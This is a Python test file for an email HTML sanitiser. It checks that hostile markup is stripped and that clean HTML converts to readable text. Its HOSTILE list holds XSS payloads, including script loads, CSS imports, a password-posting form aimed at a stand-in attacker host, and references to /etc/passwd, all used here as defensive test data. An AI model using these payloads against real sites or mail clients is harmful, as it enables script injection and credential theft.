# SPDX-License-Identifier: Apache-2.0
"""Hostile HTML comes out harmless and readable, and text made of HTML reads like the HTML."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sync_server.channels.email.html import rough_text_of, sanitise, text_of
from sync_server.channels.email.mail import MailLimits
from sync_server.channels.email.parse import parse_mail
from tests.support.mail_corpus import html_mail

LIMITS = MailLimits()

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import url(//evil.example/x.css); input[value^=a]{background:url(//evil)}</style>",
    "<p style='background:url(http://evil.example/x)'>x</p>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action='http://evil.example'><input name=password><button>go</button></form>",
    "<iframe src='http://evil.example'></iframe>",
    "<object data='http://evil.example'></object><embed src='http://evil.example'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<video src='http://evil.example/x' poster='http://evil.example/y'></video>",
    "<body background='http://evil.example/x' onload=alert(1)>",
    "<table background='http://evil.example/x'><tr><td background=//evil.example/y>x</table>",
    "<img src='http://evil.example/x.png' srcset='http://evil.example/y.png 2x'>",
    "<img src='file:///etc/passwd'>",
    "<img src='\\\\evil.example\\share\\a.png'>",
    "<img src='//evil.example/x'>",
    "<img src='http://10.0.0.1/'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='cid:unknown'>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<p id=x class=y onclick=alert(1) data-x=1>x</p>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_promises_37_and_38_nothing_of_it_runs_or_loads(html: str) -> None:
    mail = parse_mail(html_mail(f"<p>Before</p>{html}<p>After</p>"))
    shown = mail.html or ""
    assert not re.search(
        r"<(?:script|svg|math|style|base|form|input|button|meta|iframe|object|embed|link|video|body)",
        shown,
    )
    assert not re.search(r"(?:\ssrc|srcset|poster|background|style|on\w+|id|class)\s*=", shown)
    assert not re.search(r"href=\"(?!https?:|mailto:|tel:)", shown)
    assert "Before" in mail.text


def test_links_to_other_schemes_are_just_their_text() -> None:
    shown = sanitise("<a href='ftp://x/y'>a</a> <a href='https://x.example/'>b</a>", {}, LIMITS)
    assert shown is not None
    assert re.findall(r'href="([^"]*)"', shown) == ["https://x.example/"]
    assert "noopener" in shown


def test_a_link_of_absurd_length_is_just_its_text() -> None:
    shown = sanitise(f"<a href='https://x.example/{'a' * 3000}'>here</a>", {}, LIMITS)
    assert shown == '<a rel="noopener noreferrer">here</a>'


def test_an_image_stays_only_as_a_file_of_the_same_mail() -> None:
    html = "<img src='cid:logo%40x' alt='Logo'><img src='cid:no'><img src='CID:logo@x' width=99999>"
    assert sanitise(html, {"logo@x": "logo@x"}, LIMITS) == (
        '<img src="cid:logo@x" alt="Logo"><img><img src="cid:logo@x">'
    )


@pytest.mark.parametrize("tag", ["div", "b", "blockquote", "table", "x-unknown", "font"])
def test_deep_html_is_refused_before_a_tree_is_built(tag: str) -> None:
    assert sanitise(f"<{tag}>" * 20_000, {}, LIMITS) is None
    assert sanitise(f"<{tag}>" * 150, {}, LIMITS) is not None


def test_large_html_is_refused_and_its_text_kept() -> None:
    mail = parse_mail(html_mail("<p>word</p>" * 200_000))
    assert mail.html is None
    assert mail.text.startswith("word")


def test_unclosed_paragraphs_are_not_taken_for_depth() -> None:
    assert sanitise("<p>one" * 5_000 + "<table>" + "<tr><td>x" * 5_000, {}, LIMITS) is not None


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>Two<br><br>Three", "One\nTwo\n\nThree"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("  a \n  b   <b>c</b>d", "a b cd"),
        ("<ul><li>One<li>Two</ul>", "- One\n- Two"),
        ("<table><tr><td>a<td>b<tr><td>c<td>d</table>", "a\tb\nc\td"),
        ("Hi<blockquote>Quoted<br>twice<blockquote>old</blockquote></blockquote>",
         "Hi\n\n> Quoted\n> twice\n>\n> > old"),
        ("<pre>  keep\n    this</pre>", "  keep\n    this"),
        ("<a href='https://x.example/long'>here</a>", "here <https://x.example/long>"),
        ("<a href='mailto:a@x.example'>a@x.example</a>", "a@x.example"),
        ("<a href='http://x.example/'>http://x.example</a>", "http://x.example"),
        ("<h1>Title</h1>text", "Title\n\ntext"),
        ("above<hr>below", "above\n---\nbelow"),
        ("Hi<blockquote>Quoted</blockquote>Bye", "Hi\n\n> Quoted\n\nBye"),
        ("<img alt='Logo' src='http://x.example/y'>", "[Logo]"),
        ("a &lt;b&gt; &amp;amp; &euro; &nbsp;c", "a <b> &amp; € \xa0c"),
        ("<script>var x</script><style>p{}</style><title>t</title>seen", "seen"),
        ("", ""),
    ],
)  # fmt: skip
def test_text_reads_like_the_html(html: str, text: str) -> None:
    cleaned = sanitise(html, {}, LIMITS)
    assert cleaned is not None
    assert text_of(cleaned).strip("\n") == text


def test_rough_text_leaves_out_markup_and_what_is_hidden() -> None:
    html = "<title>t</title><p>One</p><script>x()</script> <b>two</b> &amp; <style>p{}"
    assert rough_text_of(html).split() == ["One", "two", "&"]


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "</p>", "<p>", "&", "\x00", "x"])))
def test_sanitising_twice_changes_nothing_more(pieces: list[str]) -> None:
    once = sanitise("".join(pieces), {}, LIMITS)
    assert once is not None
    assert sanitise(once, {}, LIMITS) == once
    text_of(once)
